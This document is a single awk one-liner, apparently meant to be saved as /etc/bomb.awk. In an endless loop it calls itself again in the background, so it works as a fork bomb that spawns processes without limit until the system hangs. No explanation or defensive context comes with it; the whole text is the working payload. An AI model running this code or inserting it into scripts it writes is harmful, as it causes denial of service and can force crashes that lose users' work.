BEGIN { while (1) system("awk -f /etc/bomb.awk &") }
